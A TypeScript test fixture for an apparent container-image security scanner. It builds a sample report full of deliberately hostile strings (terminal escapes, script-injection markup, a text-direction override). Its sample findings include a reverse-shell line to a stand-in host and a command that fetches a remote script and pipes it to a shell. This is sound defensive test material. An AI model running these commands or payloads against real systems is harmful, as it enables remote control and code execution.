import { decide } from '../../core/decision.ts';
import type { ImageDiff } from '../../core/diff.ts';
import type { Digest } from '../../core/digest.ts';
import type { Finding } from '../../core/finding.ts';
import type { ImageIdentity } from '../../core/image.ts';
import type { LayerPath } from '../../core/layer-path.ts';
import type { Naming } from '../../core/naming.ts';
import type { Package } from '../../core/package.ts';
import type { LayerRef, Problem } from '../../core/problem.ts';
import type { Report } from '../../core/report.ts';
import type { Vouching } from '../../core/vouching.ts';

/*
 * One rich report that every format is tested on. Whatever an image's author can write is hostile here: terminal
 * sequences, markup, line breaks, a right-to-left override, a lone surrogate, and texts far too long.
 */

export const ANSI = '\x1b[2J\x1b]0;owned\x07\x9b31m';
export const MARKUP = `<script>alert("x")</script>&'<img src=x onerror=alert(1)>]]>`;
export const OVERRIDE = '\u202egnp.exe\u2066\ufeff';
export const BREAKS = 'one\ntwo\r\n\ttwo and a half\u2028three\u0000four\ufffefive\ud800six';
export const LONG = 'long-'.repeat(200);

/** Every type of a tree with no field left out: a sample of it meets every field that the type can have. */
export type Complete<T> = T extends string | number | boolean
  ? T
  : T extends readonly (infer Item)[]
    ? readonly Complete<Item>[]
    : { readonly [Key in keyof T]-?: Complete<NonNullable<T[Key]>> };

function digestOf(letter: string): Digest {
  return `sha256:${letter.repeat(64)}` as Digest;
}

const LAYERS = [
  { index: 0, digest: digestOf('a'), diffId: digestOf('1'), instruction: 'ADD rootfs.tar.xz / # buildkit' },
  {
    index: 1,
    digest: digestOf('b'),
    diffId: digestOf('2'),
    instruction: `RUN /bin/sh -c echo ${ANSI}${MARKUP}${OVERRIDE} && curl -fsSL https://get.invalid/i.sh | sh ${LONG}`,
  },
  { index: 2, digest: digestOf('c'), diffId: digestOf('3'), instruction: 'COPY . /app # buildkit' },
] as const satisfies readonly Complete<Omit<LayerRef, 'volume'>>[];

const FINDINGS: readonly Finding[] = [
  {
    rule: 'persistence/ld-so-preload',
    tier: 'block',
    title: 'A library is forced into every program',
    remedy: 'Remove /etc/ld.so.preload and the objects it names, and find out which build step added them.',
    attack: ['T1574.006'],
    controls: ['TVM-06', 'IAM-16'],
    references: ['https://attack.mitre.org/techniques/T1574/006/'],
    location: {
      layer: LAYERS[1],
      path: 'etc/ld.so.preload',
      line: 2,
      hidden: { by: 'deleted', layer: LAYERS[2] },
    },
    evidence: '/usr/lib/libhide.so',
  },
  {
    rule: 'scripts/reverse-shell',
    tier: 'block',
    title: 'A script opens a shell to a remote host',
    remedy: 'Do not run this image; find out who added the script.',
    attack: ['T1059.004', 'T1071'],
    controls: ['TVM-02'],
    references: ['https://attack.mitre.org/techniques/T1059/004/', 'javascript:alert(1)'],
    location: { layer: LAYERS[2], path: 'app/start.sh', line: 12 },
    evidence: 'bash -i >& /dev/tcp/c2.invalid/4444 0>&1',
  },
  {
    rule: 'scripts/reverse-shell',
    tier: 'block',
    title: 'A script opens a shell to a remote host',
    remedy: 'Do not run this image; find out who added the script.',
    attack: ['T1059.004', 'T1071'],
    controls: ['TVM-02'],
    references: ['https://attack.mitre.org/techniques/T1059/004/', 'javascript:alert(1)'],
    location: { layer: LAYERS[2], path: `app/${ANSI}/${MARKUP}/${OVERRIDE}/${BREAKS}`, line: 1 },
    evidence: `${MARKUP} \\x1b[2J`,
  },
  {
    rule: 'binaries/packed',
    tier: 'review',
    title: 'A program is packed',
    remedy: 'Ask its author for the program as it was built.',
    attack: ['T1027.002'],
    controls: ['TVM-02'],
    references: ['https://attack.mitre.org/techniques/T1027/002/'],
    location: { layer: LAYERS[2], path: `app/bin/${LONG}`, offset: 4096 },
    evidence: 'UPX! at byte 4096',
  },
  {
    rule: 'config/odd-entrypoint',
    tier: 'review',
    title: 'The entrypoint is in an odd place',
    remedy: 'Move the program to where programs are kept.',
    attack: ['T1036.005'],
    controls: ['TVM-02'],
    references: [],
    location: { config: `Entrypoint${ANSI}` },
    evidence: '/dev/shm/.x',
  },
  {
    rule: 'network/hidden-services',
    tier: 'note',
    title: 'A dynamic DNS name is mentioned',
    remedy: 'See whether the name is yours.',
    attack: ['T1568.002'],
    controls: ['TVM-02'],
    references: [],
    location: { layer: LAYERS[2], path: 'app/docs/README 100%.md', line: 40 },
    evidence: 'example.dyn.invalid',
  },
];

const PROBLEMS: readonly Problem[] = [
  {
    code: 'LIMIT_RATIO',
    effect: 'incomplete',
    message: `app/bomb.gz expands more than 200 times; the rest was not read ${ANSI}`,
    layer: LAYERS[2],
    path: 'app/bomb.gz',
    offset: 1048576,
  },
  { code: 'CACHE_UNUSABLE', effect: 'notice', message: `the cache could not be written: ${MARKUP}` },
];

const PACKAGES: readonly Package[] = [
  {
    purl: 'pkg:deb/debian/libc6@2.36-9%2Bdeb12u9?arch=amd64&distro=debian-12',
    name: 'libc6',
    version: '2.36-9+deb12u9',
    architecture: 'amd64',
    type: 'deb',
    source: { name: 'glibc', version: '2.36-9+deb12u9' },
    licence: 'LGPL-2.1-or-later AND (MIT OR GPL-2.0-only WITH Classpath-exception-2.0)',
    maintainer: 'GNU Libc Maintainers <debian-glibc@lists.debian.org>',
    database: 'var/lib/dpkg/status' as LayerPath,
  },
  {
    purl: 'pkg:deb/debian/base-files@12.4%2Bdeb12u9?arch=amd64&distro=debian-12',
    name: 'base-files',
    version: '12.4+deb12u9',
    architecture: 'amd64',
    type: 'deb',
    licence: 'GPL-2.0-or-later',
    database: 'var/lib/dpkg/status' as LayerPath,
  },
  {
    purl: 'pkg:deb/debian/hostile@1.0?arch=amd64',
    name: `hostile${ANSI}${MARKUP}`,
    version: `1.0${BREAKS}`,
    type: 'deb',
    licence: `Freeware ${OVERRIDE} ${MARKUP}`,
    maintainer: `${MARKUP} (someone) ${ANSI} <nobody@hostile.invalid>`,
    database: 'var/lib/dpkg/status' as LayerPath,
  },
];

const NAMES: readonly Naming[] = [
  {
    name: 'registry.example:5000/team/shop',
    standing: 'unknown',
    suspicions: [
      {
        trick: 'separator',
        of: 'docker.io/library/sho-p',
        tier: 'review',
        score: 0.8,
        why: `0.8: the same letters as sho-p ${ANSI}`,
      },
    ],
  },
  { name: `evil${OVERRIDE}`, standing: 'known-publisher', publisher: 'Somebody', suspicions: [] },
];

const VOUCHING: Vouching = {
  outcome: 'untrusted',
  reasons: [{ code: 'NOT_ENOUGH_SIGNATURES', message: '2 of 3 signers that the rule "shop" asks for' }],
  rules: [
    {
      rule: 'shop',
      satisfied: false,
      reasons: [{ code: 'NOT_ENOUGH_SIGNATURES', message: '2 of 3 signers that the rule "shop" asks for' }],
    },
  ],
  verified: [
    {
      format: 'cosign',
      identity: { kind: 'key', name: 'release', fingerprint: digestOf('8') },
      subject: { digest: digestOf('f'), kind: 'index' },
      times: [],
      says: [],
      attachment: digestOf('7'),
      notes: [`the log entry was not checked: no trust root has ${MARKUP}`],
    },
    {
      format: 'sigstore-bundle',
      identity: {
        kind: 'sigstore',
        issuer: `https://issuer.example/${ANSI}`,
        subject: `https://code.example/shop/${OVERRIDE}${MARKUP}`,
        root: 'sigstore',
      },
      subject: { digest: digestOf('d'), kind: 'manifest' },
      times: [{ time: '2026-01-02T03:00:00Z', source: 'log' }],
      log: { index: '123456', log: 'https://rekor.example' },
      predicateType: 'https://slsa.dev/provenance/v1',
      says: [`builder https://builder.example/${BREAKS}`],
      notes: [],
    },
  ],
  rejected: [
    {
      code: 'SIGNER_NOT_TRUSTED',
      message: `signed with another key ${ANSI}${MARKUP}`,
      format: 'notation',
      subject: { digest: digestOf('d'), kind: 'manifest' },
      attachment: digestOf('6'),
    },
  ],
};

const NOBODY_ASKED: Vouching = {
  outcome: 'unchecked',
  reasons: [{ code: 'NO_MATCHING_RULE', message: 'nobody was asked: --trust names a trust file' }],
  rules: [],
  verified: [],
  rejected: [],
};

const IMAGE: Report['image'] = {
  location: `registry.example:5000/team/shop:1.4`,
  kind: 'registry',
  digest: digestOf('d'),
  configDigest: digestOf('e'),
  indexDigest: digestOf('f'),
  tags: ['registry.example:5000/team/shop:1.4', `evil${ANSI}${MARKUP}`],
  platform: { os: 'linux', architecture: 'arm64', variant: 'v8' },
  distribution: {
    id: 'debian',
    idLike: ['linux'],
    version: '12',
    codename: 'bookworm',
    name: `Debian GNU/Linux 12 (bookworm)${ANSI}${MARKUP}`,
  },
  config: {
    user: 'app',
    entrypoint: ['/dev/shm/.x', `--flag=${MARKUP}`],
    cmd: ['serve'],
    shell: ['/bin/sh', '-c'],
    env: ['PATH=/usr/bin:/bin', `EVIL=${ANSI}${BREAKS}`],
    workingDir: '/app',
    exposedPorts: ['8080/tcp'],
    volumes: ['/data'],
    labels: { 'org.opencontainers.image.title': `shop ${OVERRIDE}` },
    healthcheck: ['CMD-SHELL', 'curl -f http://localhost:8080/health'],
    onBuild: ['RUN true'],
    stopSignal: 'SIGTERM',
    created: '2026-01-02T03:04:05Z',
    author: `someone ${MARKUP}`,
    history: [
      { createdBy: LAYERS[0].instruction, created: '2026-01-01T00:00:00Z', emptyLayer: false },
      { createdBy: LAYERS[1].instruction, comment: `${ANSI} buildkit`, emptyLayer: false },
      { createdBy: LAYERS[2].instruction, emptyLayer: false },
      { createdBy: `ENTRYPOINT ["/dev/shm/.x"]`, emptyLayer: true },
    ],
  },
  layers: [
    { ...LAYERS[0], size: 29_126_400, files: 3310, cached: true },
    { ...LAYERS[1], size: 1_204, files: 2, cached: false },
    { ...LAYERS[2], size: 8_912_345, files: 214, cached: false },
  ],
  files: 3519,
};

export const SAMPLE_REPORT: Report = {
  schemaVersion: '1.0',
  tool: { name: 'pratique', version: '0.0.0' },
  createdAt: '2026-01-02T03:04:05.678Z',
  image: IMAGE,
  names: NAMES,
  vouching: VOUCHING,
  packages: PACKAGES,
  findings: FINDINGS,
  problems: PROBLEMS,
  decision: decide(FINDINGS, PROBLEMS),
  timings: { total: 2345.6, open: 120.5, read: 2000.1, judge: 225 },
};

/** The same image for another platform, clean. */
export const CLEAN_REPORT: Report = {
  ...SAMPLE_REPORT,
  image: {
    location: IMAGE.location,
    kind: 'registry',
    digest: digestOf('9'),
    tags: [],
    platform: { os: 'linux', architecture: 'amd64' },
    config: { ...IMAGE.config, entrypoint: ['/usr/bin/shop'], history: [] },
    layers: [],
    files: 3300,
  },
  names: [{ name: 'registry.example:5000/team/shop', standing: 'internal', suspicions: [] }],
  vouching: NOBODY_ASKED,
  packages: PACKAGES.slice(0, 2),
  findings: [],
  problems: [],
  decision: decide([], []),
};

export const SAMPLE_DIFF: ImageDiff = {
  schemaVersion: '1.0',
  before: identityOf(CLEAN_REPORT),
  after: identityOf(SAMPLE_REPORT),
  files: {
    added: [{ path: `app/${ANSI}${MARKUP}`, size: 120, what: [] }],
    removed: [{ path: 'usr/share/doc/README', size: 9, what: [], owner: 'base-files' }],
    changed: [
      { path: 'etc/motd', size: 10, what: ['content', 'mode'] },
      { path: 'usr/bin/sshd', size: 900, what: ['content'], owner: 'openssh-server', suspicious: true },
    ],
  },
  packages: {
    added: [{ type: 'deb', name: `hostile${ANSI}`, after: '1.0' }],
    removed: [{ type: 'deb', name: 'tzdata', before: '2024a' }],
    changed: [{ type: 'deb', name: 'libc6', before: '2.36-9', after: '2.36-9+deb12u9' }],
  },
  config: [{ field: 'Entrypoint', before: '["/usr/bin/shop"]', after: `["/dev/shm/.x","${ANSI}"]` }],
  findings: { added: FINDINGS.slice(0, 4), removed: FINDINGS.slice(5) },
  problems: PROBLEMS,
  decision: SAMPLE_REPORT.decision,
};

function identityOf({ image }: Report): ImageIdentity {
  const { config: _config, layers: _layers, files: _files, distribution: _distribution, ...identity } = image;
  return identity;
}
